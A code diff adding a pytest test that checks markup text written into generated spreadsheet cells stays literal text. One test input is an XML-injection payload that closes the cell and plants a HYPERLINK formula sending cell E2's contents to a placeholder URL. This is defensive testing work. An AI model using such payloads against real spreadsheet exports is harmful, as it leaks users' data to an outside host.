@@ -75,6 +75,23 @@ def test_a_text_stays_the_text_that_it_was(text: str) -> None:
     assert [row[name] for name in names] == [text] * 6
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<r>a & b</r>",
+        "<r><t>x</t></r>",
+        '<r><t>x</t></r></is></c><c r="W2"><f>HYPERLINK("http://a.b/?"&amp;E2)</f></c><c r="X2" t="inlineStr"><is><r><t>y</t></r>',
+    ],
+)
+def test_a_text_that_is_markup_stays_a_text_in_its_own_cell(text: str) -> None:
+    line = ChangeLine("created", "create", "1", code=text, fields=[("description", None, text)], answer=text)
+    book = open_workbook([line], [line])
+    (row,) = read_sheet(book, 1)
+    assert (row["code"], row["description after"], row["Details"]) == (text, text, text)
+    (mend,) = read_sheet(book, 2)
+    assert (mend["code"], mend["description"], mend["Details"]) == (text, text, text)
+
+
 def test_turkish_letters_line_breaks_and_quotes_come_back() -> None:
     line = ChangeLine("created", "create", "1", code='ŞUBE "İĞ"', fields=[("description", None, "a\nb <c> & d")])
     (row,) = read_sheet(open_workbook([line]), 1)
